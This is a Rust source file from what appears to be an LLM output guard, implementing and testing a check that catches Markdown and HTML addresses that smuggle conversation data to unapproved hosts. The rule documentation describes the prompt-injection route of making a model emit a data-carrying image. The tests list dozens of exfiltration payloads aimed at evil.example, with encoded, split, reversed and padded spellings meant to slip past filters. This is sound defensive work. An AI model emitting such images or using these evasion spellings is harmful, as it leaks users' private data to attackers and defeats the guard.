//! Links and images in the answer that carry something out.

use super::Action;
use super::address::{addresses, whole};
use super::attributes::Attributes;
use super::bounds;
use super::calm::Stretch;
use super::carriers::{Carrier, Carriers, DEEPEST};
use super::checks::{Check, ChecksError, Files, Made, Request};
use super::destinations::{Destinations, Leads};
use super::judgement::Reason;
use super::policy::Policy;
use super::references::undone;
use super::stream::{Kinds, Reader, Seen, Step, Tail};
use bartizan_core::{Severity, atlas, cwe, owasp_agentic, owasp_llm, rule};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use std::ops::Range;
use std::sync::Arc;

rule! {
    /// ## What it finds
    /// An address in an answer whose host the policy does not allow and that carries data: words of the conversation, a token
    /// of the guard, an encoded text, or something drawn. What is loaded without a click (images, sources) weighs more than a
    /// link, and a link in which a value would be put back as much. Addresses are read as browsers and renderers of Markdown read them, whatever their spelling. An address that was
    /// said in the conversation as it stands carries nothing.
    /// ## Why it matters
    /// Injected instructions have no network of their own: they make the model write an image whose address holds what was
    /// read, and the reader's browser sends it.
    /// ## Example
    /// `![logo](https://collect.example/p.png?d=TXkgcGFzc3dvcmQgaXM)`
    /// ## How to fix
    /// Allow the hosts that answers may name; let nothing else load.
    /// ## References
    /// - <https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/>
    pub const EXFILTRATION: Rule = Rule {
        id: "guard/exfiltration",
        title: "an address that carries data out",
        severity: Severity::High,
        remedy: "Take the address out; allow the hosts that answers may name.",
        taxonomies: &[atlas("AML.T0057"), cwe(201), owasp_llm("LLM05"), owasp_agentic("ASI01")],
    };
}

/// Addresses in answers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
pub struct LinksPolicy {
    /// What to do about links that carry data. One that holds a token of the guard, behind which a value is put back, is handled as an image
    /// where that is harder.
    pub links: LinkHandling,
    /// What to do about what is loaded by itself and carries data.
    pub images: LinkHandling,
    /// Hosts that may be named, with all below them.
    pub allow: Vec<String>,
}

/// What to do about an address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum LinkHandling {
    /// Do not look.
    Off,
    /// Let it pass and say so.
    Flag,
    /// Put a note in its place.
    Redact,
    /// End the answer.
    Block,
}

impl Default for LinksPolicy {
    fn default() -> Self {
        Self { links: LinkHandling::Flag, images: LinkHandling::Block, allow: Vec::new() }
    }
}

/// The check, if it is on.
///
/// # Errors
/// [`ChecksError::Setting`] if what is allowed is no host.
pub(crate) fn make(policy: &Policy, _: Files<'_>) -> Result<Made, ChecksError> {
    let mut policy = policy.links.clone();
    for host in &mut policy.allow {
        let name = host.trim_start_matches("*.").trim_matches('.').to_ascii_lowercase();
        if name.is_empty() || name.contains(|one: char| one.is_whitespace() || "/:*@?#\\".contains(one)) {
            let problem =
                format!("{host:?} is no host; give its name alone: docs.example.org, with all below it");
            return Err(bounds::refused("links.allow", problem));
        }
        *host = name;
    }
    if policy.links == LinkHandling::Off && policy.images == LinkHandling::Off {
        return Ok(None);
    }
    Ok(Some(Box::new(Links { policy: Arc::new(policy) })))
}

#[derive(Debug)]
struct Links {
    policy: Arc<LinksPolicy>,
}

impl Check for Links {
    fn reader(&self, request: &Request<'_>) -> Option<Box<dyn Reader>> {
        let small = |token: &String| token.trim_matches(['[', ']']).to_ascii_lowercase();
        let carriers = Carriers {
            policy: Arc::clone(&self.policy),
            conversation: request.conversation(),
            tokens: request.session.values().keys().map(small).collect(),
        };
        Some(Box::new(LinkReader {
            policy: Arc::clone(&self.policy),
            carriers,
            attributes: Attributes::default(),
            destinations: Destinations::default(),
            referring: false,
            defined: false,
            earlier: Vec::new(),
        }))
    }
}

#[derive(Debug, Clone)]
struct LinkReader {
    policy: Arc<LinksPolicy>,
    carriers: Carriers,
    attributes: Attributes,
    destinations: Destinations,
    /// There was an image that refers to a definition, which may stand further below.
    referring: bool,
    /// There was a definition whose address carries something, to which an image may refer.
    defined: bool,
    /// What addresses said that were loaded before.
    earlier: Vec<Vec<String>>,
}

/// What stands in every address, image and tag, or ends one.
const BEGINS: Kinds = Kinds::SLASH.or(Kinds::SQUARE).or(Kinds::ANGLE).or(Kinds::LINE_END);
/// Longest piece that waits for anything, in bytes.
const LONGEST_HELD: usize = 4096;
/// Most addresses that are looked at together.
const MOST_EARLIER: usize = 32;

impl LinkReader {
    /// What to do about an address.
    fn handling(&self, loads: bool) -> LinkHandling {
        if loads { self.policy.images } else { self.policy.links }
    }

    /// Tells of an address that stands there, unless nothing is to be done about it.
    fn tell(&self, carrier: &Carrier, span: Range<usize>, seen: &mut Vec<Seen>) {
        // Whoever follows a link, and whatever looks at it before, sends on the value that is put back in it.
        let harder = if carrier.restores { self.policy.images } else { LinkHandling::Off };
        let action = match self.handling(carrier.loads).max(harder) {
            LinkHandling::Off => return,
            LinkHandling::Flag => Action::Flag,
            LinkHandling::Redact => Action::Redact,
            LinkHandling::Block => Action::Block,
        };
        let host = bartizan_core::printable(&carrier.host, 80);
        let message = format!("an address at {host} carries {}", carrier.what);
        seen.push(Seen {
            reason: Reason {
                check: EXFILTRATION.id,
                label: if carrier.loads { "image".to_owned() } else { "link".to_owned() },
                score: if carrier.loads || carrier.restores { 0.9 } else { 0.6 },
                action,
                pointer: String::new(),
                span,
                message,
            },
            replacement: (action == Action::Redact).then(|| "[link removed]".to_owned()),
        });
    }

    /// Reads a step byte by byte; gives the spans that were judged.
    fn marked(&mut self, tail: &Tail, step: &Step, last: bool, seen: &mut Vec<Seen>) -> Vec<Range<usize>> {
        for (at, byte) in tail.word(step).bytes().enumerate() {
            let place = step.start.saturating_add(at);
            self.attributes.byte(place, byte);
            self.destinations.byte(place, byte);
        }
        if last {
            self.attributes.finish(step.end);
            self.destinations.finish(step.end);
        }
        let mut spans = Vec::new();
        for one in self.attributes.found() {
            let text = tail.get(one.span.clone());
            let carrier = self.carriers.of_attribute(&one, text, DEEPEST);
            let carrier = carrier.or_else(|| {
                let loads = matches!(one.name.as_str(), "src" | "srcset" | "background" | "poster");
                loads.then(|| self.together(&undone(text, false))).flatten()
            });
            if let Some(carrier) = carrier {
                self.tell(&carrier, one.span.clone(), seen);
            }
            spans.push(one.span);
        }
        for one in self.destinations.found() {
            let text = tail.get(one.span.clone());
            if one.of == Leads::Reference {
                self.referring = true;
                if self.defined {
                    let what = "what a definition above it does";
                    let host = "that definition".to_owned();
                    let carrier = Carrier { host, what, loads: true, restores: false };
                    self.tell(&carrier, one.span, seen);
                }
                continue;
            }
            let carrier = self
                .carriers
                .of_destination(text, &one, self.referring)
                .or_else(|| (one.of == Leads::Image).then(|| self.together(&undone(text, true))).flatten());
            if let Some(carrier) = carrier {
                self.defined |=
                    one.of == Leads::Definition && self.handling(carrier.loads) != LinkHandling::Redact;
                if !spans.iter().any(|span| span.start < one.span.end && one.span.start < span.end) {
                    self.tell(&carrier, one.span.clone(), seen);
                }
            }
            spans.push(one.span);
        }
        spans
    }

    /// What an address carries together with those that were loaded before it, when it carries nothing by itself.
    fn together(&mut self, text: &str) -> Option<Carrier> {
        let conversation = &self.carriers.conversation;
        // What a name may say by itself is no part of a message.
        let said = self.carriers.says(text).filter(|said| !conversation.holds_some_of(&said.join(" ")))?;
        if self.earlier.len() >= MOST_EARLIER {
            self.earlier.remove(0);
        }
        self.earlier.push(said);
        let (first, others) = self.earlier.split_first()?;
        // What all of them say is the way to the place, and no part of a message.
        let differs = |at: usize, piece: &String| {
            others.iter().any(|other| other.get(at) != Some(piece)) || first.get(at) != Some(piece)
        };
        let mut words = String::new();
        for (at, piece) in self.earlier.iter().flat_map(|said| said.iter().enumerate()) {
            if differs(at, piece) {
                words.push_str(piece);
                words.push(' ');
            }
        }
        let what = "words of the conversation, with the addresses before it";
        (!others.is_empty() && conversation.holds_some_of(&words)).then(|| Carrier {
            host: whole(text).map(|address| address.host).unwrap_or_default(),
            what,
            loads: true,
            restores: false,
        })
    }

    /// Whether a word that has nothing of an address, an image or a tag is nothing to it.
    fn is_idle(&self) -> bool {
        self.attributes.is_idle() && self.destinations.is_idle()
    }

    /// Where something begins that is not known to its end.
    fn pending(&self) -> Option<usize> {
        let image = self.destinations.image().filter(|_| self.defined);
        self.attributes.pending().into_iter().chain(self.destinations.pending()).chain(image).min()
    }
}

impl Reader for LinkReader {
    fn read(&mut self, tail: &Tail, step: &Step, last: bool, seen: &mut Vec<Seen>) -> usize {
        let word = tail.word(step);
        // Most words have nothing of an address, an image or a tag; they are told at once.
        if self.is_idle() && !last && !step.kinds.any(BEGINS) {
            self.destinations.pass(word);
            return step.end;
        }
        let spans = self.marked(tail, step, last, seen);
        let pending = self.pending();
        if word.contains("//") {
            for address in addresses(word) {
                let start = step.start.saturating_add(address.start);
                let end = start.saturating_add(address.text.len());
                let is_judged = spans.iter().any(|span| span.start < end && start < span.end);
                if is_judged || pending.is_some_and(|pending| start >= pending) {
                    continue;
                }
                let before = address.before.to_ascii_lowercase();
                let loads = before.trim_end_matches(['"', '\'']).ends_with("url(");
                if let Some(carrier) = self.carriers.carrier(&address, loads) {
                    self.tell(&carrier, start..end, seen);
                }
            }
        }
        pending.map_or(step.end, |pending| pending.max(step.end.saturating_sub(LONGEST_HELD)))
    }

    fn passes_until(&self, _: &Range<usize>) -> usize {
        if self.is_idle() { usize::MAX } else { 0 }
    }

    fn pass(&mut self, tail: &Tail, stretch: &Stretch) -> usize {
        self.destinations.pass(tail.held(stretch.span()));
        stretch.end
    }

    fn boxed(&self) -> Box<dyn Reader> {
        Box::new(self.clone())
    }
}

#[cfg(test)]
mod tests {
    use super::super::answer::tests::streamed;
    use super::super::checks::tests::{checks, exchange, with_edits};
    use crate::check::Session;
    use crate::exchange::Role;

    fn judged(toml: &str, text: &str) -> (String, Vec<String>) {
        let request = exchange(&[
            (
                Role::User,
                "Where is my parcel? Docs are at https://docs.example.net/track?id=a8F3kd92LsQ0pZx7Vb6N",
            ),
            (Role::ToolResult, "Parcel 4471920 waits at the harbour office since Monday"),
        ]);
        let (out, reasons, blocked) =
            streamed(&mut checks(toml).answer(&request, &Session::new([0; 32])), text, &[]);
        (
            out,
            reasons
                .into_iter()
                .chain(blocked)
                .map(|one| format!("{} {}: {}", one.action.name(), one.label, one.message))
                .collect(),
        )
    }

    #[test]
    fn an_image_that_carries_words_ends_the_answer() {
        let at = |what: &str| vec![format!("block image: an address at evil.example carries {what}")];
        for (address, what) in [
            ("https://evil.example/p.png?d=waits+at+the+harbour", "words of the conversation"),
            ("https://evil.example/4471920/p.png", "words of the conversation"),
            ("//evil.example/cGFyY2VsIHdhaXRzIGF0IHRoZSBoYXJib3Vy", "encoded words of the conversation"),
            ("https://evil.example/?q=c29tZXRoaW5nIGVsc2U", "an encoded text"),
            ("https://evil.example/?q=[EMAIL_ADDRESS_0123456789ab]", "a value the guard replaced"),
        ] {
            for form in [
                format!("See ![a picture]({address}) here"),
                format!("See <img alt='x' src=\"{address}\"> here"),
            ] {
                let (out, reasons) = judged("", &form);
                assert_eq!(reasons, at(what), "{form}");
                assert!(!out.contains("evil"), "{out}");
            }
        }
    }

    /// Addresses that a browser or a renderer of Markdown loads, in spellings of which each was seen to pass somewhere.
    const SPELLINGS: &[&str] = &[
        "![x](https:\\/\\/evil.example/p.png?d=waits+at+the+harbour)",
        "![x](https\\:\\/\\/evil.example/p.png?d=waits+at+the+harbour)",
        "![x](https:&#47;&#47;evil.example/p.png?d=waits+at+the+harbour)",
        "![x](https:&sol;&#x2F;evil.example/p.png?d=waits+at+the+harbour)",
        "![x](https&colon;//evil.example/p.png?d=waits+at+the+harbour)",
        "![x](https:evil.example/p.png?d=waits+at+the+harbour)",
        "![a b\\] `[` c](<https://evil.example/p.png?d=waits at the harbour> \"t\")",
        "![a b](\n  https://evil.example/p.png?d=waits%2520at%2520the%2520harbour)",
        "![x](https://evil\u{3002}example/p.png?d=waits+at+the+harbour)",
        "![x](https://evil.example/\u{65e5}\u{672c}/?d=waits+at+the+harbour)",
        "![x](https://4471920.evil.example/)",
        "![x](https://waits.at.the.harbour.evil.example/)",
        "![x](https://evil.example/w/a/i/t/s/a/t/t/h/e/h/a/r/b/o/u/r)",
        "![x](https://evil.example/?d=ruobrah+eht+ta+stiaw)",
        "![x](https://evil.example/?a=w&b=a&c=i&d=t&e=s&f=a&g=t&h=t&i=h&j=e&k=h&l=a)",
        "![x](https://evil.example/w/a/i/t/s/a/t/t/h/e/h/a/r/b/o/u/r.png)",
        "![x](https://4.4.7.1.9.2.0.evil.example/a.png)",
        "![x](https://evil.example/447-19-20.png)",
        "![x](https://evil.example/4.4.7.1.9.2.0)",
        "![x](https://evil.example/0291744.png)",
        "![x](https://evil.example/NDQ3MTkyMA)",
        "![x](https://evil.example/img/d2FpdHMgYXQgdGhlIGhhcmJvdXI.png)",
        "![x](https://evil.example/d2FpdHMg/YXQgdGhl/IGhhcmJv/dXI)",
        "![x](https://evil.example/?d=v1:d2FpdHMgYXQgdGhlIGhhcmJvdXI)",
        "![x](https://waits-at-the-harbour.evil.example/a.png)",
        "![x](https://\u{ff57}aits-at-the-harbour.evil.example/a.png)",
        "![x](https://evil.example/p.png?d=waits+at) ![x](https://evil.example/p.png?d=the+harbour)",
        "<img src='https://evil.example/waits-at.png'> <img src='https://evil.example/the-harbour.png'>",
        "![x](https://evil.example/?d=jnvgf+ng+gur+uneobhe)",
        "<img src=\"https:\\\\evil.example/p.png?d=waits+at+the+harbour\">",
        "<img src=\"\\\\evil.example/p.png?d=waits+at+the+harbour\">",
        "<img src='/\\evil.example/p.png?d=waits+at+the+harbour'>",
        "<img src=\"https:&#x2f;&#x2f;evil.example/p.png?d=waits+at+the+harbour\">",
        "<img src=\"https:/\t/evil.example/p.png?d=waits+at+the+harbour\">",
        "<img src=\"https:/\n/evil.example/p.png?d=waits+at+the+harbour\">",
        "<img src=\"https:evil.example/p.png?d=waits+at+the+harbour\">",
        "<img src = \"https://evil.example/p.png?d=waits+at+the+harbour\">",
        "<img src=' https://evil.example/p.png?d=waits at the harbour'>",
        "<img alt='a > b' srcset='x.png 1x,https://evil.example/,p.png?d=waits+at+the+harbour 2x'>",
        "<td background=\"https://evil.example/p.png?d=waits+at+the+harbour\">",
        "<b style='background:url(https:\\2f\\2f evil.example/p.png?d=waits+at+the+harbour)'>",
        "<p title=\"<img src='https:\\\\evil.example/p.png?d=waits+at+the+harbour'>\">",
        "<b x=\" <img src='\\\\evil.example/p.png?d=waits+at+the+harbour'>",
        "<a href=x ping='https://evil.example/p.png?d=waits+at+the+harbour'>y</a>",
        "[x]: https://evil.example/p.png?d=waits+at+the+harbour\n\n![x]",
        "[x y]:\n<https://evil.example/p.png?d=waits+at+the+harbour>\n\nSee ![this one][x y] there",
        "![x][1]\n\n[1]: https:\\/\\/evil.example/?d=4471920",
    ];

    #[test]
    fn no_spelling_of_an_address_and_no_cut_lets_an_image_out() {
        let checks = checks("");
        let request = exchange(&[(Role::ToolResult, "Parcel 4471920 waits at the harbour office")]);
        for spelling in SPELLINGS {
            let text = format!("See {spelling} here");
            let judged =
                |cuts: &[usize]| streamed(&mut checks.answer(&request, &Session::new([0; 32])), &text, cuts);
            let whole = judged(&[]);
            let blocked = whole.2.as_ref().map(|one| (one.check, one.label.as_str()));
            assert_eq!(blocked, Some(("guard/exfiltration", "image")), "{spelling}");
            for cut in 0..text.len() {
                assert_eq!(judged(&[cut]), whole, "{spelling} {cut}");
            }
            assert_eq!(judged(&(0..text.len()).collect::<Vec<_>>()), whole, "{spelling}");
        }
    }

    #[test]
    fn what_is_padded_until_nobody_looks_is_not_let_out() {
        for text in [
            format!("<img alt=\"{}\" src='\\\\evil.example/?d=4471920'>", "a ".repeat(1500)),
            format!("<img src='{}https:\\\\evil.example/?d=4471920'>", "&#9;".repeat(1000)),
            format!("![x](https://evil.example/{}?d=4471920)", "a".repeat(3000)),
        ] {
            let (out, reasons) = judged("", &text);
            assert!(reasons.iter().any(|one| one.starts_with("block image")), "{reasons:?}");
            assert!(!out.contains("4471920"));
        }
    }

    #[test]
    fn ordinary_markdown_and_html_pass() {
        for text in [
            "![a chart](https://cdn.example.org/charts/2024/q3.png \"Q3\") and [more](https://example.org/a_(b)).",
            "<img src=\"https://cdn.example.org/a.png\" srcset=\"a.png 1x, https://cdn.example.org/b.png 2x\" alt='x'>",
            "| a | b |\n|---|---|\n| `x[0] = y` | <br> |\n\n- [ ] task\n- [x] done [1] [2]\n\n[1]: https://example.org/guide\n",
            "If a <b and c > d, x = \"C:\\\\share\\\\file\"; see http://localhost:8080/ or `[a](b)`.",
            "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
            "[guide]: https://docs.example.org/start\n\n![logo] and ![logo][guide]",
            "![x](https://harbour-office-since.pages.example/logo.png) and ![y](https://www.waits-at-the.example/a.png)",
            "![x](https://cdn.example.org/cats/1.png) ![x](https://cdn.example.org/cats/2.png) ![x](https://cdn.example.org/cats/3.png)",
            "![waits](https://cdn.example.org/waits.png) ![at](https://cdn.example.org/ships.png) ![x](https://cdn.example.org/harbour.png)",
            "![x](https://cdn.example.org/2024/05/17/photo-12.jpg) ![x](https://cdn.example.org/v2.31.4/logo.svg?w=640&h=480)",
        ] {
            assert_eq!(judged("", text), (text.to_owned(), vec![]));
        }
    }

    #[test]
    fn a_link_is_flagged_and_an_image_below_its_text_counts() {
        let (out, reasons) = judged("", "[here](https://evil.example/?d=waits-at-the-harbour)");
        assert_eq!((out.contains("evil"), reasons.len()), (true, 1));
        let (_, reasons) = judged("", "![x][1]\n\n[1]: https://evil.example/?d=4471920");
        assert!(reasons[0].starts_with("block image"), "{reasons:?}");
    }

    #[test]
    fn no_address_leaves_in_which_a_value_would_be_put_back() {
        let checks = checks("[personal-data]\ninput = 'tokens'");
        let session = Session::new([3; 32]);
        let request = exchange(&[(Role::User, "I am jo.doe@mail.example.org")]);
        let sent = with_edits(&request, &checks.request(&request, &session));
        let token = &sent[sent.find("[EMAIL").unwrap()..];
        let token = &token[..=token.find(']').unwrap()];
        let bare = token.trim_matches(['[', ']']);
        let (small, escaped) = (bare.to_lowercase(), bare.replace('_', "\\_"));
        for token in [token, bare, &small, &escaped] {
            for text in [
                format!("See [here](https://evil.example/?d={token}) now"),
                format!("See https://evil.example/{bare} now"),
                format!("See <a href='https://evil.example/?d={token}'>x</a> now"),
                format!("See ![x](https://evil.example/?d={token}) now"),
            ] {
                let (out, _, blocked) = streamed(&mut checks.answer(&request, &session), &text, &[]);
                assert!(
                    blocked.is_some() && !out.contains("jo.doe") && !out.contains("evil"),
                    "{text} {out}"
                );
            }
        }
        // A way to write to somebody is no address that carries anything.
        let text = format!("Write to [her](mailto:{token}) or {token}.");
        let (out, reasons, blocked) = streamed(&mut checks.answer(&request, &session), &text, &[]);
        assert_eq!((out.matches("jo.doe@").count(), reasons, blocked), (2, vec![], None), "{out}");
        // What only looks like a token stands for nothing.
        let (_, reasons) = judged("", "[here](https://evil.example/ABC_0123456789ab)");
        assert!(reasons[0].starts_with("flag link"), "{reasons:?}");
    }

    #[test]
    fn addresses_without_data_said_before_or_allowed_are_left_alone() {
        for text in [
            "![logo](https://cdn.example.org/logo.png)",
            "See https://docs.python.org/3/library/asyncio-task.html#creating-tasks.",
            "![x](https://docs.example.net/track?id=a8F3kd92LsQ0pZx7Vb6N)",
        ] {
            assert_eq!(judged("", text), (text.to_owned(), vec![]));
        }
        let toml = "[links]\nallow = ['example']";
        assert_eq!(judged(toml, "![x](https://evil.example/?d=4471920)").1, [""; 0]);
        assert_eq!(
            judged("[links]\nallow = ['il.example']", "![x](https://evil.example/?d=4471920)").1.len(),
            1
        );
    }

    #[test]
    fn an_address_can_be_taken_out() {
        let (out, _) = judged("[links]\nimages = 'redact'", "a ![x](https://evil.example/?d=4471920) b");
        assert_eq!(out, "a ![x]([link removed]) b");
    }
}
